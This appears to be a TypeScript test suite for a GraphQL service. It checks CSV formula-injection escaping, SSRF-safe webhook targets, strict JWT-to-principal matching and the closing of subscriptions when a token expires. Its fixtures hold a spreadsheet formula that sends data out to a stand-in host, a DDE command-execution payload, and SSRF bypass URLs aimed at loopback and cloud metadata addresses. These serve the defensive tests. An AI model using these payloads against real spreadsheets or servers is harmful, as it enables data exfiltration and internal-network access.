/**
 * Formula cells in the CSV export, webhook targets that
 * resolve to local or metadata addresses, subscriptions outliving their token, and
 * tokens that do not match a principal.
 */
import http from 'node:http';
import { randomUUID } from 'node:crypto';
import { createClient } from 'graphql-ws';
import { SignJWT } from 'jose';
import WebSocket from 'ws';
import { createDataSource } from '../../ormconfig';
import { createApp } from '../../src/http/app';
import { createLogger } from '../../src/shared/logger';
import { createNodes, createPublishedList } from '../support/factories';
import { CONSORTIUM_IDS, DECLARE_EMERGENCY, ME_HANDLE_ROLE, REGISTER_WEBHOOK } from '../support/operations';
import { createTestApp, errorCode, seededPrincipal, TEST_JWT_SECRET, type TestApp } from '../support/test-app';

let t: TestApp;
let consortiumId: string;

beforeAll(async () => {
  // As in production: strict tokens, no webhooks to this machine or private networks.
  t = await createTestApp({ env: { STRICT_TOKENS: 'true', WEBHOOK_ALLOW_PRIVATE: 'false' } });
  consortiumId = (await t.ok<{ consortia: { id: string }[] }>(CONSORTIUM_IDS)).consortia[0].id;
});
afterAll(() => t.close());

const waitFor = async (cond: () => boolean, ms = 8000) => {
  const until = Date.now() + ms;
  while (!cond() && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
};

/** An HS256 token with any claims (and `exp` only when given, in seconds since the epoch). */
function token(claims: { sub: string; role: string; jurisdiction?: string | null }, exp?: number): Promise<string> {
  let jwt = new SignJWT({ role: claims.role, jurisdiction: claims.jurisdiction ?? null })
    .setProtectedHeader({ alg: 'HS256' })
    .setSubject(claims.sub)
    .setIssuedAt();
  if (exp !== undefined) jwt = jwt.setExpirationTime(exp);
  return jwt.sign(new TextEncoder().encode(TEST_JWT_SECRET));
}
const inAnHour = () => Math.floor(Date.now() / 1000) + 3600;

describe('CSV export', () => {
  it('writes cells a spreadsheet would run as formulas as text', async () => {
    await createNodes(t.ds, [
      { code: 'FX', label: 'Formula test' },
      { code: 'FX.A', parentCode: 'FX', label: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
      { code: 'FX.B', parentCode: 'FX', label: "+1+cmd|' /C calc'!A0" },
      { code: 'FX.C', parentCode: 'FX', label: '-2+3' },
      { code: 'FX.D', parentCode: 'FX', label: '@SUM(1,2)' },
      { code: 'FX.E', parentCode: 'FX', label: '\tTAB' },
    ]);
    await createPublishedList(t.ds, 'US', 'FX US', ['FX'], [{ controlNumber: '=1+1', tier: 'STANDARD', maps: { 'FX.A': 'EXACT' } }]);
    const base = await t.listen();
    const res = await fetch(`${base}/export/concordance.csv?consortiumId=${consortiumId}&taxonomyPrefix=FX`);
    expect(res.status).toBe(200);
    const text = await res.text();
    const { parse } = await import('csv-parse/sync');
    const rows: string[][] = parse(text);
    const cells = rows.flat();
    // No cell starts with a character a spreadsheet reads as the start of a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const byCode = Object.fromEntries(rows.map((r) => [r[0], r]));
    expect(byCode['FX.A'][1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(byCode['FX.C'][1]).toBe(`'-2+3`);
    expect(byCode['FX.D'][1]).toBe(`'@SUM(1,2)`);
    expect(byCode['FX.A'][rows[0].indexOf('US')]).toBe('STANDARD: =1+1'); // not at the start: harmless
  });
});

describe('webhook targets (WEBHOOK_ALLOW_PRIVATE=false)', () => {
  let receiver: http.Server;
  let port: number;
  let hits = 0;
  beforeAll(async () => {
    receiver = http.createServer((req, res) => {
      hits += 1;
      res.end('ok');
    });
    await new Promise<void>((r) => receiver.listen(0, '0.0.0.0', () => r()));
    port = (receiver.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((r) => receiver.close(() => r())));

  const forms = () => [
    `http://[::ffff:127.0.0.1]:${port}/hook`,
    `http://[::ffff:7f00:1]:${port}/hook`,
    `http://[::]:${port}/hook`,
    `http://localhost.:${port}/hook`,
    `http://localhost:${port}/hook`,
    `http://0.0.0.0:${port}/hook`,
    `http://2130706433:${port}/hook`,
    `http://[64:ff9b::127.0.0.1]:${port}/hook`,
    `http://100.100.100.200/latest/meta-data`,
    `http://[::ffff:169.254.169.254]/`,
    `http://10.0.0.1:${port}/hook`,
  ];

  it('refuses at registration every form of a local, private or metadata address', async () => {
    const before = (await t.ds.query('SELECT count(*)::int AS n FROM webhook'))[0].n;
    for (const url of forms()) {
      const r = await t.gql(REGISTER_WEBHOOK, { i: { url } }, 'gb-regulator');
      expect([url, errorCode(r), r.errors?.[0]?.message]).toEqual([url, 'BAD_USER_INPUT', expect.stringMatching(/refused/)]);
    }
    expect((await t.ds.query('SELECT count(*)::int AS n FROM webhook'))[0].n).toBe(before);
  });

  it('checks again at each delivery: a webhook registered when it was allowed never reaches a local listener', async () => {
    // Registered through an instance that allowed private targets (as before this check, or
    // while the name resolved elsewhere); delivered by one that does not.
    const ds = createDataSource(t.databaseUrl);
    await ds.initialize();
    const lax = await createApp({
      dataSource: ds,
      config: { ...t.config, webhookAllowPrivate: true },
      clock: t.clock,
      logger: createLogger('silent'),
      listenForEvents: false,
    });
    const ids: string[] = [];
    try {
      for (const url of [
        `http://127.0.0.1:${port}/hook`,
        `http://[::ffff:127.0.0.1]:${port}/hook`,
        `http://localhost:${port}/hook`,
        `http://localhost.:${port}/hook`,
        `http://0.0.0.0:${port}/hook`,
      ]) {
        const r = await lax.apollo.executeOperation(
          { query: REGISTER_WEBHOOK, variables: { i: { url } } },
          { contextValue: lax.createContext(seededPrincipal('gb-regulator')) },
        );
        const body = r.body.kind === 'single' ? r.body.singleResult : null;
        expect([url, body?.errors]).toEqual([url, undefined]);
        ids.push((body!.data as any).registerWebhook.webhook.id);
      }
    } finally {
      await lax.stop();
    }
    const rows: { id: string }[] = await t.ds.query(
      `INSERT INTO webhook_delivery (webhook_id, event_type, payload, status, attempts, next_attempt_at, created_at, attempt_log)
       SELECT id, 'REGISTER_ENTRY_PUBLISHED', '{}'::jsonb, 'PENDING', 0, $2, $2, '[]'::jsonb FROM webhook WHERE id = ANY($1::uuid[]) RETURNING id`,
      [ids, t.clock.now()],
    );
    expect(rows).toHaveLength(ids.length);
    for (const { id } of rows) expect(await t.app.services.webhooks.attempt(id)).toBe(true);
    expect(hits).toBe(0);
    const logs: { attempt_log: { error: string | null; statusCode: number | null }[] }[] = await t.ds.query(
      'SELECT attempt_log FROM webhook_delivery WHERE id = ANY($1::uuid[])',
      [rows.map((r) => r.id)],
    );
    for (const l of logs)
      expect(l.attempt_log).toEqual([
        expect.objectContaining({ statusCode: null, error: expect.stringMatching(/this machine or a private network|does not resolve/) }),
      ]);
  });
});

describe('tokens against principals (STRICT_TOKENS=true)', () => {
  const me = async (bearer: string) => {
    const base = await t.listen();
    const res = await fetch(`${base}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${bearer}` },
      body: JSON.stringify({ query: ME_HANDLE_ROLE }),
    });
    return { status: res.status, body: (await res.json()) as any };
  };

  it('accepts a token that matches its stored principal', async () => {
    const de = seededPrincipal('de-regulator');
    const r = await me(await token({ sub: de.id, role: 'REGULATOR', jurisdiction: 'DE' }, inAnHour()));
    expect(r.body.data.me).toEqual({ handle: 'de-regulator', role: 'REGULATOR' });
  });

  it('refuses an unknown subject, a contradicting jurisdiction or role, and a token without exp', async () => {
    const de = seededPrincipal('de-regulator');
    const cases: [string, string][] = [
      ['unknown uuid', await token({ sub: randomUUID(), role: 'REGULATOR', jurisdiction: 'DE' }, inAnHour())],
      ['ad-hoc subject', await token({ sub: 'someone', role: 'SECRETARIAT' }, inAnHour())],
      ['other jurisdiction', await token({ sub: de.id, role: 'REGULATOR', jurisdiction: 'FR' }, inAnHour())],
      ['other role', await token({ sub: de.id, role: 'SECRETARIAT' }, inAnHour())],
      ['no exp', await token({ sub: de.id, role: 'REGULATOR', jurisdiction: 'DE' })],
    ];
    for (const [what, bearer] of cases) {
      const r = await me(bearer);
      expect([what, r.status, r.body.errors?.[0]?.extensions?.code]).toEqual([what, 401, 'UNAUTHENTICATED']);
    }
  });
});

describe('subscriptions and token expiry', () => {
  it('end when the token expires: nothing is delivered afterwards', async () => {
    const base = await t.listen();
    await t.app.events!.ready;
    const secretariat = seededPrincipal('secretariat');
    const exp = Math.floor(Date.now() / 1000) + 3;
    const bearer = await token({ sub: secretariat.id, role: 'SECRETARIAT' }, exp);
    const received: any[] = [];
    let closedWith: number | undefined;
    const client = createClient({
      url: base.replace('http', 'ws') + '/graphql',
      webSocketImpl: WebSocket,
      connectionParams: { authorization: `Bearer ${bearer}` },
      retryAttempts: 0,
    });
    client.on('closed', (e) => (closedWith ??= (e as { code: number }).code));
    let subscribed!: () => void;
    const connected = new Promise<void>((r) => (subscribed = r));
    client.on('connected', () => setTimeout(subscribed, 200));
    client.subscribe(
      { query: 'subscription { registerEntryPublished { title } }' },
      { next: (v) => received.push(v), error: () => undefined, complete: () => undefined },
    );
    try {
      await connected;
      // A declaration publishes a register entry.
      const publish = (title: string) =>
        t.ok(DECLARE_EMERGENCY, { i: { consortiumId, title, taxonomyCodes: ['BIO.EQP'], endsAt: '2026-12-31T00:00:00Z' } }, 'secretariat');
      await publish('before expiry');
      await waitFor(() => received.length === 1);
      expect(received).toEqual([{ data: { registerEntryPublished: { title: expect.stringContaining('before expiry') } } }]);
      // Once the token has expired the server closes the connection (4401) and sends nothing more.
      await waitFor(() => Date.now() > exp * 1000 + 300 && closedWith !== undefined);
      await publish('after expiry');
      await new Promise((r) => setTimeout(r, 300));
      expect(closedWith).toBe(4401);
      expect(received).toHaveLength(1);
    } finally {
      await client.dispose();
    }
  });
});
